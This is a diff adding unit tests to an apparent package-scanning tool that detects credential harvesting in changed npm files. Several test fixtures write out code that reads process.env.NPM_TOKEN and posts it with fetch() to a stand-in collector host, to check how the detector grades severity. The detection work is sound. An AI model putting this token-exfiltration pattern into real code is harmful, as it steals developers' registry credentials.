@@ -251,3 +251,51 @@ describe('content/credential-harvesting: corpus severities', () => {
     expect(findings[0]?.severity).toBe(severity)
   })
 })
+
+describe('content/credential-harvesting: bundles and test switches', () => {
+  // yarn 2.4.3's bin/yarn.js: a 1.6 MiB bundle that logs in with its own test account
+  const FILLER = Array.from({ length: 40 }, (_, i) => `function f${i}(a){return a+${i}}`).join(';')
+  const DENSE_CHUNK = 'var x=[' + Array.from({ length: 120 }, (_, i) => `${i}`).join(',') + '];'
+
+  it('ignores test-only variables next to a request', async () => {
+    const ctx = changed(
+      { 'index.js': OLD_INDEX },
+      {
+        'index.js': withLines(
+          'if (process.env.TEST_ENV) login(process.env.TEST_NPM_USER, process.env.TEST_NPM_PASSWORD)',
+          "fetch('https://registry.invalid/-/user', { body: process.env.TEST_NPM_2FA_TOKEN })"
+        )
+      }
+    )
+    expect(await run(ctx)).toEqual([])
+  })
+
+  it('grades a source and a sink on one long bundle line as the same package (high)', async () => {
+    const line = `const t=process.env.NPM_TOKEN;${FILLER};fetch('https://collector.invalid/k',{body:t})`
+    expect(line.length).toBeGreaterThan(1000)
+    const findings = await run(changed({ 'index.js': OLD_INDEX }, { 'bin/cli.js': `${line}\n` }))
+    expect(findings).toHaveLength(1)
+    expect(findings[0]?.severity).toBe('high')
+    expect(findings[0]?.message).toContain('minified bundle')
+  })
+
+  it('grades a minified-shaped file as the same package even with short lines', async () => {
+    const text = [
+      'const t=process.env.NPM_TOKEN;',
+      ...Array.from({ length: 8 }, () => DENSE_CHUNK),
+      "fetch('https://collector.invalid/k',{body:t})"
+    ].join('\n')
+    const findings = await run(changed({ 'index.js': OLD_INDEX }, { 'bin/cli.js': `${text}\n` }))
+    expect(findings[0]?.severity).toBe('high')
+  })
+
+  it('keeps critical when a readable file has a short source line and a short sink line', async () => {
+    const text = [
+      'const t = process.env.NPM_TOKEN',
+      `const table = '${'x'.repeat(1200)}'`,
+      "fetch('https://collector.invalid/k', { body: t })"
+    ].join('\n')
+    const findings = await run(changed({ 'index.js': OLD_INDEX }, { 'lib/t.js': `${text}\n` }))
+    expect(findings[0]?.severity).toBe('critical')
+  })
+})
